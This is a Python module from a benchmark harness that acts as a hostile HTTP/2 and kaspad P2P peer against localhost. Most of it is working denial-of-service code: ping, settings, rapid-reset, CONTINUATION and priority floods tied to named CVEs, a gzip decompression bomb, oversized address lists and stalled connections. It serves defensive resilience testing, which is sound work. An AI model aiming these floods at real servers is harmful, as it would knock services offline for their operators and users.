"""Hostile HTTP/2 and kaspad peers for ``flood_bench``: the floods of issue G, as a child process.

    python3 -m bench.floods '{"kind": "ping", "port": 16300, "conns": 32, "seconds": 60}'

runs ``conns`` attacker connections at once against 127.0.0.1:``port`` for ``seconds`` and prints
one JSON line per connection it made (:class:`ConnRecord`) on stdout. A connection the target
closes is replaced by a new one at once (an attacker keeps its pressure up), so "closed by the
target" is counted per connection. With ``"serve": true`` it is the other way round: it listens on
``port`` and every connection made *to* it (a bridge's pool dialing a hostile upstream) gets the
flood.

Kinds (raw frames, serialized by hand so that nothing is flow-controlled or rate-limited by a
client library; the raw kinds never read what the target sends, like the attacker of issue G
defect 1):

* ``ping``, ``settings``: PING / empty SETTINGS frames as fast as the socket takes them (each one
  asks for an ACK: CVE-2019-9512 "ping flood", CVE-2019-9515 "settings flood").
* ``data0``: empty DATA frames on an open stream (CVE-2019-9518 "empty frames").
* ``rst``: HEADERS then RST_STREAM on a new stream, over and over (CVE-2023-44487 "rapid
  reset"; CVE-2019-9514 "reset flood").
* ``priority``: PRIORITY frames on ever new stream ids (CVE-2019-9513 "resource loop").
* ``winupd``: WINDOW_UPDATE(+1) on the connection.
* ``cont``: one HEADERS without END_HEADERS, then CONTINUATION frames without end (the 2024
  "CONTINUATION flood").
* ``stall``: sends its preface and SETTINGS, then nothing, and never reads (the non-reading warm
  remote of issue G defect 4; as a client, a connection that holds a slot without a stream).

Kinds that speak kaspad's P2P protocol (the ``h2`` based :class:`bench.harness.wire.RawPeer`, which
reads and honours flow control):

* ``bomb``: a 4 KB gzip'd first Version message that inflates to 4 MiB of tiny protobuf fields
  (issue G defect 2); a new connection after each.
* ``addrs``: the Version/Verack/Ready handshake, then one Addresses message with 340 000 entries
  (over kaspad's 2500 limit, still under the bridge's 4 MiB ``max_rewrite_bytes`` once inflated;
  issue G defect 3); a new connection after each.
* ``silent``: connects (to a bridge's slot port) and never sends a byte (issue G defect 5).
"""

from __future__ import annotations

import contextlib
import errno
import json
import socket
import struct
import sys
import threading
import time
import zlib
from dataclasses import asdict, dataclass
from typing import Any

from bench.harness.wire import P2P_PATH, RawPeer, grpc_frame, gzip6, pb, raw_version

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 2, 3, 4, 6, 7, 8, 9)
END_STREAM, END_HEADERS = 0x1, 0x4

RAW_KINDS = ("ping", "settings", "data0", "rst", "priority", "winupd", "cont", "stall")
P2P_KINDS = ("bomb", "addrs")
KINDS = (*RAW_KINDS, *P2P_KINDS, "silent")
BOMB_BYTES = 4 * 1024 * 1024 - 64  # inflated size: just under max_rewrite_bytes (4 MiB)
ADDRS_ENTRIES = 340_000
BATCH = 64 * 1024  # bytes per write of the raw floods


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame (RFC 9113 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream & 0x7FFFFFFF) + payload


def request_block(authority: bytes) -> bytes:
    """HPACK block of a kaspad P2P request (the same bytes every time: literals only)."""
    import hpack

    enc = hpack.Encoder()
    enc.header_table_size = 0
    return bytes(enc.encode([
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", P2P_PATH),
        (b":authority", authority), (b"te", b"trailers"),
        (b"content-type", b"application/grpc"), (b"grpc-encoding", b"gzip")]))


def response_block() -> bytes:
    import hpack

    return bytes(hpack.Encoder().encode([(b":status", b"200"),
                                         (b"content-type", b"application/grpc"),
                                         (b"grpc-encoding", b"gzip")]))


class RawFlood:
    """The bytes of one raw flood: ``opening`` once, then ``batch(i)`` for i = 0, 1, ..."""

    def __init__(self, kind: str, authority: bytes, server: bool) -> None:
        self.kind = kind
        self.server = server
        self.block = request_block(authority)
        self.next_sid = 3
        settings = frame(SETTINGS, 0, 0)
        self.opening = settings if server else PREFACE + settings
        if kind in ("data0", "cont") and not server:
            flags = END_HEADERS if kind == "data0" else 0
            self.opening += frame(HEADERS, flags, 1, self.block if kind == "data0"
                                  else self.block[:len(self.block) // 2])
        one = {
            "ping": frame(PING, 0, 0, b"floodpng"),
            "settings": frame(SETTINGS, 0, 0),
            "data0": frame(DATA, 0, 1),
            "winupd": frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
            "cont": frame(CONTINUATION, 0, 1, (b"\x00\x05x-pad\x06padpad") * 1024),
        }.get(kind)
        self.fixed = one * max(1, BATCH // len(one)) if one else None

    def batch(self) -> bytes:
        if self.fixed is not None:
            return self.fixed
        out = []
        if self.kind == "rst":
            for _ in range(256):
                sid, self.next_sid = self.next_sid, self.next_sid + 2
                out.append(frame(HEADERS, END_HEADERS, sid, self.block))
                out.append(frame(RST_STREAM, 0, sid, struct.pack(">I", 8)))  # CANCEL
        elif self.kind == "priority":
            for _ in range(4096):
                sid, self.next_sid = self.next_sid, self.next_sid + 2
                out.append(frame(PRIORITY, 0, sid, struct.pack(">IB", 1, 15)))
        if self.next_sid > 0x7FFFFF00:
            self.next_sid = 3
        return b"".join(out)


@dataclass
class ConnRecord:
    kind: str
    opened: float  # seconds after the attack started
    closed: float | None = None  # when the target closed it (None: still open at the end)
    sent: int = 0  # bytes the socket accepted
    goaway: int | None = None  # GOAWAY error code the target sent (if we saw it)
    note: str = ""


def _drain(sock: socket.socket, rec: ConnRecord, limit: int = 32 << 20) -> bool:
    """After the flood: read what the target sent (up to ``limit``), note its GOAWAY; True if
    the target had closed (EOF or reset)."""
    buf = bytearray()
    sock.settimeout(0.5)
    eof = False
    try:
        while len(buf) < limit:
            chunk = sock.recv(1 << 20)
            if not chunk:
                eof = True
                break
            buf += chunk
    except TimeoutError:
        pass
    except OSError:
        eof = True
    i = 0
    while i + 9 <= len(buf):  # the target's frames (it sends no preface)
        n = int.from_bytes(buf[i:i + 3], "big")
        if buf[i + 3] == GOAWAY and i + 9 + 8 <= len(buf):
            rec.goaway = int.from_bytes(buf[i + 13:i + 17], "big")
        i += 9 + n
    return eof


def raw_attack(sock: socket.socket, kind: str, deadline: float, t0: float, rec: ConnRecord,
               authority: bytes, server: bool = False) -> None:
    flood = RawFlood(kind, authority, server)
    sock.settimeout(0.5)
    view = memoryview(flood.opening)
    try:
        while True:
            while view and time.monotonic() < deadline:
                try:
                    n = sock.send(view)
                except TimeoutError:
                    continue
                rec.sent += n
                view = view[n:]
            if time.monotonic() >= deadline:
                break
            if kind == "stall":
                time.sleep(0.2)
                continue
            view = memoryview(flood.batch())
    except OSError as e:
        rec.closed = time.monotonic() - t0
        rec.note = errno.errorcode.get(e.errno or 0, type(e).__name__)
    eof = _drain(sock, rec)
    if rec.closed is None and eof:
        rec.note = "closed by the target (seen at the end)"


# -- kaspad P2P attackers -----------------------------------------------------------------------


_payloads: dict[str, bytes] = {}


def bomb_payload() -> bytes:
    """gzip of KaspadMessage{version}: a real Version, then empty ``address`` sub-messages
    (2 bytes each, merged by protobuf) up to BOMB_BYTES; about 4 KB compressed."""
    if "bomb" not in _payloads:
        p = pb()
        version = p.KaspadMessage.FromString(raw_version()).version.SerializeToString()
        field = p.KaspadMessage.DESCRIPTOR.fields_by_name["version"].number
        pad = (BOMB_BYTES - len(version) - 16) // 2
        inner = version + b"\x22\x00" * pad
        from bridge.core.proto import encode_varint

        msg = encode_varint(field << 3 | 2) + encode_varint(len(inner)) + inner
        _payloads["bomb"] = grpc_frame(gzip6(msg), True)
    return _payloads["bomb"]


def addrs_payload() -> bytes:
    """gzip of KaspadMessage{addresses} with ADDRS_ENTRIES IPv4 entries (public addresses of
    one /8, port 16111)."""
    if "addrs" not in _payloads:
        p = pb()
        m = p.KaspadMessage(addresses=p.AddressesMessage(addressList=[
            p.NetAddress(ip=bytes([23, (i >> 16) & 255, (i >> 8) & 255, i & 255]), port=16111)
            for i in range(ADDRS_ENTRIES)]))
        _payloads["addrs"] = grpc_frame(gzip6(m.SerializeToString()), True)
    return _payloads["addrs"]


def p2p_attack(sock: socket.socket, kind: str, deadline: float, t0: float, rec: ConnRecord,
               authority: bytes) -> None:
    pb()  # sets the Verack / Ready payloads
    sock.settimeout(None)
    peer = RawPeer(sock, client=True, authority=authority)
    try:
        if not peer.open.wait(max(0.1, min(10.0, deadline - time.monotonic()))) \
                or peer.closed.is_set():
            rec.note = "no response headers"
            return
        if kind == "bomb":
            payload = bomb_payload()
        else:
            try:
                peer.handshake(raw_version())
            except Exception:  # the target closed the connection meanwhile
                rec.closed = time.monotonic() - t0
                rec.note = "closed in the handshake"
                return
            end = min(deadline, time.monotonic() + 10)
            while peer.counter.count < 3 and time.monotonic() < end and not peer.closed.is_set():
                time.sleep(0.01)  # the other side's Version, Verack, Ready
            if peer.counter.count < 3:
                rec.note = f"handshake incomplete ({peer.counter.count} messages)"
            payload = addrs_payload()
        try:
            rec.sent += len(payload) if peer.send(payload) else 0
        except Exception:  # h2 refuses: the target closed the connection meanwhile
            rec.closed = time.monotonic() - t0
            rec.note = "closed while sending"
            return
        if rec.closed is None and peer.closed.wait(
                max(0.0, min(10.0, deadline - time.monotonic()))):
            rec.closed = time.monotonic() - t0
        rec.note = rec.note or ("closed" if rec.closed is not None else "not closed in 10 s")
    finally:
        with contextlib.suppress(OSError):
            sock.shutdown(socket.SHUT_RDWR)
        sock.close()
        peer.thread.join(2)


def silent_attack(sock: socket.socket, deadline: float, t0: float, rec: ConnRecord) -> None:
    sock.settimeout(0.5)
    while time.monotonic() < deadline:
        try:
            data = sock.recv(65536)
        except TimeoutError:
            continue
        except OSError:
            data = b""
        if not data:
            rec.closed = time.monotonic() - t0
            return
        rec.note = "target sent data"


# -- drivers ------------------------------------------------------------------------------------


def run_client(kind: str, port: int, conns: int, seconds: float,
               ports: list[int] | None = None) -> list[ConnRecord]:
    """``conns`` connections at once for ``seconds``, each replaced when the target closes it.
    ``ports``: spread the connections over these (a bridge's slot ports)."""
    t0 = time.monotonic()
    deadline = t0 + seconds
    records: list[ConnRecord] = []
    lock = threading.Lock()
    authority = f"127.0.0.1:{port}".encode()

    def worker(i: int) -> None:
        target = ports[i % len(ports)] if ports else port
        while time.monotonic() < deadline - 0.05:
            rec = ConnRecord(kind, time.monotonic() - t0)
            with lock:
                records.append(rec)
            try:
                sock = socket.create_connection(("127.0.0.1", target), timeout=5)
            except OSError as e:
                rec.note = f"connect failed: {e}"
                rec.closed = rec.opened
                time.sleep(0.2)
                continue
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            try:
                if kind in RAW_KINDS:
                    raw_attack(sock, kind, deadline, t0, rec, authority)
                elif kind in P2P_KINDS:
                    p2p_attack(sock, kind, deadline, t0, rec, authority)
                else:
                    silent_attack(sock, deadline, t0, rec)
            finally:
                sock.close()
            if rec.closed is not None:
                time.sleep(0.02)

    threads = [threading.Thread(target=worker, args=(i,), daemon=True) for i in range(conns)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(seconds + 30)
    return records


def run_server(kind: str, port: int, seconds: float, go: threading.Event) -> list[ConnRecord]:
    """Listen on ``port``: every connection made to it (a bridge's pool dialing a hostile
    upstream) is served as a well-behaved idle HTTP/2 server until ``go`` is set, then gets the
    flood ``kind`` as the server side, until ``seconds`` after ``go``."""
    records: list[ConnRecord] = []
    ls = socket.socket()
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind(("127.0.0.1", port))
    ls.listen(128)
    ls.settimeout(0.2)
    threads = []
    clock = {"t0": 0.0, "deadline": float("inf")}

    def serve(sock: socket.socket, rec: ConnRecord) -> None:
        try:
            sid = benign(sock, go, kind == "bomb", rec)
            if rec.closed is not None:
                return
            while clock["t0"] == 0.0:
                time.sleep(0.01)
            t0, deadline = clock["t0"], clock["deadline"]
            rec.opened = max(0.0, time.monotonic() - t0)
            if kind == "bomb":
                if sid is not None:
                    serve_bomb(sock, sid, t0, rec)
            else:
                raw_attack(sock, kind, deadline, t0, rec, b"", server=True)
        finally:
            sock.close()

    print(json.dumps({"listening": port}), flush=True)
    while not go.is_set() or time.monotonic() < clock["deadline"]:
        if go.is_set() and clock["t0"] == 0.0:
            clock["t0"] = time.monotonic()
            clock["deadline"] = clock["t0"] + seconds
        try:
            sock, _ = ls.accept()
        except TimeoutError:
            continue
        rec = ConnRecord(kind, time.monotonic() - clock["t0"] if clock["t0"] else 0.0)
        records.append(rec)
        t = threading.Thread(target=serve, args=(sock, rec), daemon=True)
        t.start()
        threads.append(t)
    ls.close()
    for t in threads:
        t.join(12)
    return [r for r in records if r.sent or r.closed is not None]


def benign(sock: socket.socket, go: threading.Event, want_stream: bool,
           rec: ConnRecord) -> int | None:
    """An idle, well-behaved HTTP/2 server side: sends SETTINGS, ACKs the client's SETTINGS and
    PINGs, until ``go`` is set (and, with ``want_stream``, the client opened a stream: its id is
    returned)."""
    sock.settimeout(0.2)
    sock.sendall(frame(SETTINGS, 0, 0))
    buf = bytearray()
    sid = None
    preface_done = False
    while not go.is_set() or (want_stream and sid is None):
        try:
            chunk = sock.recv(65536)
        except TimeoutError:
            continue
        except OSError:
            chunk = b""
        if not chunk:
            rec.closed = 0.0
            rec.note = "closed before the flood"
            return None
        buf += chunk
        if not preface_done:
            if len(buf) < len(PREFACE):
                continue
            del buf[:len(PREFACE)]
            preface_done = True
        while len(buf) >= 9:
            n = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + n:
                break
            ftype, flags = buf[3], buf[4]
            if ftype == HEADERS and sid is None:
                sid = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
            elif ftype == SETTINGS and not flags & 1:
                sock.sendall(frame(SETTINGS, 1, 0))
            elif ftype == PING and not flags & 1:
                sock.sendall(frame(PING, 1, 0, bytes(buf[9:9 + n])))
            del buf[:9 + n]
    return sid


def serve_bomb(sock: socket.socket, sid: int, t0: float, rec: ConnRecord) -> None:
    """A hostile upstream: answers the bridge's P2P request with the gzip bomb as its Version."""
    body = bomb_payload()
    out = frame(HEADERS, END_HEADERS, sid, response_block())
    for k in range(0, len(body), 16384):
        out += frame(DATA, 0, sid, body[k:k + 16384])
    sock.sendall(out)
    rec.sent = len(out)
    sock.settimeout(10)
    try:
        while sock.recv(65536):
            pass
        rec.closed = time.monotonic() - t0
    except TimeoutError:
        rec.note = "not closed in 10 s"
    except OSError:
        rec.closed = time.monotonic() - t0


def main(argv: list[str]) -> int:
    spec: dict[str, Any] = json.loads(argv[0])
    kind = spec["kind"]
    if kind not in KINDS:
        raise SystemExit(f"unknown kind {kind!r}: one of {', '.join(KINDS)}")
    if kind == "bomb":
        bomb_payload()
    elif kind == "addrs":
        addrs_payload()
    print(json.dumps({"ready": True}), flush=True)
    if spec.get("serve"):
        go = threading.Event()

        def wait_go() -> None:
            sys.stdin.readline()
            go.set()

        threading.Thread(target=wait_go, daemon=True).start()
        records = run_server(kind, int(spec["port"]), float(spec["seconds"]), go)
    else:
        sys.stdin.readline()  # "go"
        records = run_client(kind, int(spec["port"]), int(spec["conns"]), float(spec["seconds"]),
                             spec.get("ports"))
    for r in records:
        print(json.dumps(asdict(r)), flush=True)
    return 0


def sizes() -> dict[str, tuple[int, int]]:
    """(bytes on the wire, bytes inflated) of the bomb and the Addresses message."""
    out = {}
    for name, fn in (("bomb", bomb_payload), ("addrs", addrs_payload)):
        wire = fn()
        out[name] = (len(wire), len(zlib.decompress(wire[5:], 16 + zlib.MAX_WBITS)))
    return out


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
